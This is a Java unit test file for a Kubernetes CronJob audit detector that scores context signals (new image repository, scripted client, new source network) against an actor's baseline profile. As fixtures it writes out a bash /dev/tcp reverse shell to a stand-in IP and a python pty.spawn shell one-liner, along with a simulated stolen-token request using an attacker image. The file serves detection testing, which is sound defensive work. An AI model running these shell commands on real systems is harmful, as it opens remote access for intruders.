package dev.cronsentinel.context;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.ContextConfig;
import dev.cronsentinel.model.ActorProfile;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Severity;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.TestData;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Context signals against a profile, with evidence, and how they fold into the score. */
class ContextScorerTest {
    static final Instant T0 = Instant.parse("2026-11-01T02:00:00Z");
    static final ContextConfig CFG = ContextConfig.defaults();
    static final ContextScorer SCORER = new ContextScorer(CFG, TestData.defaultScorer());
    static final String GITOPS = "system:serviceaccount:argocd:argocd-application-controller";
    static final String GITOPS_UA = "argocd-application-controller/v2.12.3 (linux/amd64)";

    private static AuditEvents gitops(int day) {
        return AuditEvents.cronJob("reports", "nightly-report").id("g" + day).at(T0.plus(Duration.ofDays(day)))
                .by(GITOPS).agent(GITOPS_UA).from("10.42.1.15").images("registry.example.com/reports/nightly:1." + day);
    }

    private static ActorProfile baseline(int days) {
        ActorProfile p = null;
        for (int d = 0; d < days; d++) {
            p = ActorProfiles.absorb(p, ActorProfiles.observationOf(gitops(d).decoded()), CFG);
        }
        return p;
    }

    private static List<Signal> signals(AuditEvents e, ActorProfile p) {
        var ev = e.decoded();
        return SCORER.profileSignals(ev, ActorProfiles.observationOf(ev), p);
    }

    @Test
    void aRepeatOfWhatTheActorDoesHereIsNotNews() {
        assertThat(signals(gitops(15), baseline(15))).isEmpty();
    }

    @Test
    void theStolenTokenRequestFiresEveryNoveltyWithEvidence() {
        AuditEvents attack = gitops(15).id("attack").agent("python-requests/2.31.0").from("198.51.100.23")
                .images("ghcr.io/attacker/sync:1.0");
        List<Signal> s = signals(attack, baseline(15));
        assertThat(s).extracting(Signal::id).containsExactlyInAnyOrder(
                ContextSignals.NEW_IMAGE_REPOSITORY, ContextSignals.UNUSUAL_CLIENT, ContextSignals.NEW_SOURCE_NETWORK);
        assertThat(s).filteredOn(x -> x.id().equals(ContextSignals.UNUSUAL_CLIENT)).singleElement().satisfies(x -> {
            assertThat(x.rule()).isEqualTo(ContextSignals.RULE_SCRIPTED_CLIENT);
            assertThat(x.weight()).isEqualTo(30);
            assertThat(x.path()).isEqualTo("userAgent");
            assertThat(x.value()).isEqualTo("python-requests/2.31.0 (family python-requests; known: argocd-application-controller)");
        });
        assertThat(s).filteredOn(x -> x.id().equals(ContextSignals.NEW_SOURCE_NETWORK)).singleElement().satisfies(x -> {
            assertThat(x.weight()).isEqualTo(10);
            assertThat(x.path()).isEqualTo("sourceIPs[0]");
            assertThat(x.value()).isEqualTo("198.51.100.23 (network 198.51.100.0/24; known: 10.42.1.0/24)");
        });
        assertThat(s).filteredOn(x -> x.id().equals(ContextSignals.NEW_IMAGE_REPOSITORY)).singleElement().satisfies(x -> {
            assertThat(x.weight()).isEqualTo(10);
            assertThat(x.path()).isEqualTo("requestObject.spec.jobTemplate.spec.template.spec.containers[0].image");
            assertThat(x.value()).isEqualTo("ghcr.io/attacker/sync:1.0 (repository ghcr.io/attacker/sync new for this actor here; known: registry.example.com/reports/nightly)");
        });
    }

    @Test
    void aNewFamilyThatIsNotAScriptWeighsLess() {
        List<Signal> s = signals(gitops(15).agent("helm/v3.15.0"), baseline(15));
        assertThat(s).singleElement().satisfies(x -> {
            assertThat(x.rule()).isEqualTo(ContextSignals.RULE_NEW_CLIENT_FAMILY);
            assertThat(x.weight()).isEqualTo(10);
        });
        assertThat(signals(gitops(15).agent("argocd-application-controller/v2.13.0 (linux/arm64)"), baseline(15)))
                .as("an upgrade is the same family").isEmpty();
        assertThat(signals(gitops(15).from("10.42.1.200"), baseline(15))).as("the same /24").isEmpty();
    }

    @Test
    void firstSeenNeedsNoBaselineAndOtherNoveltiesDo() {
        List<Signal> first = signals(gitops(0), null);
        assertThat(first).singleElement().satisfies(x -> {
            assertThat(x.id()).isEqualTo(ContextSignals.FIRST_SEEN);
            assertThat(x.weight()).isEqualTo(20);
            assertThat(x.path()).isEqualTo("objectRef.resource");
            assertThat(x.value()).isEqualTo("cronjobs: no CronJob or Job write by this actor in this namespace within 14d");
        });
        // An actor that only ran Pods here, writing its first CronJob.
        ActorProfile pods = ActorProfiles.absorb(null, ActorProfiles.observationOf(AuditEvents.pod("reports", "debug").id("p")
                .at(T0).by(GITOPS).agent(GITOPS_UA).from("10.42.1.15").images("registry.example.com/reports/nightly:1").decoded()), CFG);
        assertThat(signals(gitops(1), pods)).singleElement().satisfies(x ->
                assertThat(x.value()).endsWith("within 14d (known kinds: pods)"));
        // A Pod is never first-seen: the signal is about CronJobs and Jobs.
        assertThat(signals(AuditEvents.pod("reports", "debug").id("p2").at(T0).by(GITOPS), null)).isEmpty();
    }

    @Test
    void whatLeftTheLookbackIsNewAgain() {
        ActorProfile p = baseline(1);
        assertThat(signals(gitops(13), p)).isEmpty();
        assertThat(signals(gitops(14), p)).extracting(Signal::id).containsExactly(ContextSignals.FIRST_SEEN);
    }

    @Test
    void contextLiftsTheScoreButNeverLowersTheStructuralVerdict() {
        ScoredEvent benign = gitops(15).agent("python-requests/2.31.0").from("198.51.100.23").images("ghcr.io/attacker/sync:1.0").scored();
        assertThat(benign.alertable()).isFalse();
        List<Signal> ctx = signals(gitops(15).agent("python-requests/2.31.0").from("198.51.100.23").images("ghcr.io/attacker/sync:1.0"), baseline(15));
        ScoredEvent lifted = SCORER.withContext(benign, ctx);
        assertThat(lifted.score()).isEqualTo(benign.score() + 50);
        assertThat(lifted.alertable()).isTrue();
        assertThat(lifted.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(lifted.signals()).containsAll(benign.signals()).containsAll(ctx);

        List<Signal> learning = ContextScorer.learning(ctx);
        assertThat(learning).allSatisfy(x -> {
            assertThat(x.weight()).isZero();
            assertThat(x.rule()).endsWith(":learning");
        });
        ScoredEvent marked = SCORER.withContext(benign, learning);
        assertThat(marked.score()).isEqualTo(benign.score());
        assertThat(marked.alertable()).isFalse();
        assertThat(marked.severity()).isEqualTo(benign.severity());
        assertThat(marked.signals()).hasSize(benign.signals().size() + 3);

        ScoredEvent reverseShell = gitops(15).command("/bin/sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1").scored();
        assertThat(reverseShell.alertable()).isTrue();
        ScoredEvent withFirstSeen = SCORER.withContext(reverseShell, signals(gitops(15), null));
        assertThat(withFirstSeen.severity()).isGreaterThanOrEqualTo(reverseShell.severity());
        assertThat(withFirstSeen.alertable()).isTrue();
    }

    @Test
    void aWholeEventAllowlistSilencesContextAndAnImageAllowlistDoesNot() {
        ScoredEvent airflow = AuditEvents.cronJob("data-pipelines", "etl").id("a").at(T0)
                .by("system:serviceaccount:data-pipelines:airflow").command("python", "-c", "print(1)").scored();
        assertThat(airflow.allowlistedBy()).isEqualTo("data-pipelines");
        assertThat(SCORER.wholeEventAllowlisted(airflow)).isTrue();
        ScoredEvent scanner = AuditEvents.cronJob("security-scan", "bench").id("b").at(T0).images("aquasec/kube-bench:0.8")
                .hostPath("/etc").scored();
        assertThat(scanner.allowlistedBy()).isEqualTo("security-scanners");
        assertThat(SCORER.wholeEventAllowlisted(scanner)).isFalse();
        // The airflow entry names python one-liners; a reverse shell from the same actor keeps its context.
        ScoredEvent shell = AuditEvents.cronJob("data-pipelines", "etl").id("c").at(T0)
                .by("system:serviceaccount:data-pipelines:airflow").command("python", "-c", "import pty; pty.spawn('/bin/sh')").scored();
        assertThat(shell.allowlistedBy()).isEqualTo("data-pipelines");
        assertThat(shell.alertable()).isTrue();
        assertThat(SCORER.wholeEventAllowlisted(shell)).isFalse();
    }
}
